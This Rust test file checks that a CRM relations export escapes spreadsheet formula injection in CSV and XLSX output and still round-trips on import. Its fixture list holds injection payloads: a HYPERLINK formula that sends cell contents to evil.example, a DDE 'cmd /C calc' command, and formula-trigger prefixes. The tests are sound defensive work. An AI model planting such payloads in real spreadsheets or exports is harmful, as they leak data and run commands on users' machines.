use crate::{import_rows, limits};
use kluis_domain::relations::{Party, RelationField as F, RelationKind};
use kluis_import::{
    CsvOptions, CsvWriter, ExportColumn, RelationRow, XlsxBook, export_cells, export_header,
    read_csv, write_xlsx,
};
use std::collections::{BTreeMap, BTreeSet};
use std::io::Cursor;

const EVIL: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
];

fn relations() -> Vec<RelationRow> {
    EVIL.iter()
        .enumerate()
        .map(|(i, evil)| RelationRow {
            row: i as u64 + 2,
            party: Party::Person,
            kind: RelationKind::Customer,
            company: Some("Acme; \"de beste\"".to_owned()),
            values: BTreeMap::from([
                (F::GivenName, (*evil).to_owned()),
                (F::FamilyName, format!("Jansen{i}")),
                (F::Email, format!("p{i}@example.nl")),
                (F::Phone, "+31612345678".to_owned()),
            ]),
            tags: BTreeSet::from(["vip".to_owned()]),
            notes: Some("regel 1\nregel 2".to_owned()),
            reference: Some(format!("K{i}")),
        })
        .collect()
}

fn columns() -> Vec<ExportColumn> {
    vec![
        ExportColumn::Party,
        ExportColumn::Kind,
        ExportColumn::Company,
        ExportColumn::Field(F::GivenName),
        ExportColumn::Field(F::FamilyName),
        ExportColumn::Field(F::Email),
        ExportColumn::Field(F::Phone),
        ExportColumn::Tags,
        ExportColumn::Notes,
        ExportColumn::Reference,
    ]
}

/// No cell of the export starts with a formula trigger, in the raw CSV text.
fn assert_no_live_formula_csv(text: &str, delimiter: char) {
    // Split the way a spreadsheet does: quoted cells unquoted first.
    let rows = read_csv(text.as_bytes(), CsvOptions::default(), limits())
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(rows.delimiter(), delimiter as u8);
    for row in rows {
        let row = row.unwrap_or_else(|e| panic!("{e}"));
        for c in &row.cells {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live cell {c:?} in row {}",
                row.number
            );
        }
    }
}

#[test]
fn csv_export_escapes_formulas_and_reads_back() {
    for delimiter in [b';', b','] {
        let mut w = CsvWriter::new(Vec::new(), delimiter).unwrap_or_else(|e| panic!("{e}"));
        w.write_row(&export_header(&columns()))
            .unwrap_or_else(|e| panic!("{e}"));
        for r in relations() {
            w.write_row(&export_cells(&r, &columns()))
                .unwrap_or_else(|e| panic!("{e}"));
        }
        let bytes = w.finish().unwrap_or_else(|e| panic!("{e}"));
        assert!(bytes.starts_with(b"\xef\xbb\xbf"), "Excel needs the BOM");
        let text = String::from_utf8(bytes.clone()).unwrap_or_else(|e| panic!("{e}"));
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert!(text.contains("'+31612345678"), "{text}");
        assert_no_live_formula_csv(&text, delimiter as char);
        // Round trip: the import undoes the escape and gets the same relations.
        let rows =
            read_csv(&bytes[..], CsvOptions::default(), limits()).unwrap_or_else(|e| panic!("{e}"));
        let (back, problems) = import_rows(rows);
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!(back, trimmed(relations()));
    }
}

#[test]
fn xlsx_export_escapes_formulas_and_reads_back() {
    let mut buf = Cursor::new(Vec::new());
    let cells: Vec<Vec<String>> = relations()
        .iter()
        .map(|r| export_cells(r, &columns()))
        .collect();
    write_xlsx(&mut buf, "Relaties", &export_header(&columns()), &cells)
        .unwrap_or_else(|e| panic!("{e}"));
    let bytes = buf.into_inner();
    // No formula element anywhere in the sheet: every cell is a string.
    assert_eq!(sheet_formulas(&bytes), Vec::<String>::new());
    let mut book = XlsxBook::open(Cursor::new(bytes), limits()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(book.sheet_names(), vec!["Relaties".to_owned()]);
    let rows: Vec<_> = book
        .rows(Some("Relaties"))
        .unwrap_or_else(|e| panic!("{e}"))
        .collect();
    for r in &rows {
        let r = r.as_ref().unwrap_or_else(|e| panic!("{e}"));
        for c in &r.cells {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live cell {c:?}"
            );
        }
    }
    let (back, problems) = import_rows(rows.into_iter());
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(back, trimmed(relations()));
}

/// The formulas of the first sheet, as calamine reads them: there must be none.
fn sheet_formulas(bytes: &[u8]) -> Vec<String> {
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec()))
        .unwrap_or_else(|e| panic!("{e}"));
    let range = book
        .worksheet_formula("Relaties")
        .unwrap_or_else(|e| panic!("{e}"));
    range
        .used_cells()
        .map(|(_, _, f)| f.clone())
        .filter(|f| !f.is_empty())
        .collect()
}

/// What reads back: leading and trailing whitespace is not kept by the import.
fn trimmed(mut rows: Vec<RelationRow>) -> Vec<RelationRow> {
    for r in &mut rows {
        for v in r.values.values_mut() {
            *v = v.trim().to_owned();
        }
    }
    rows
}
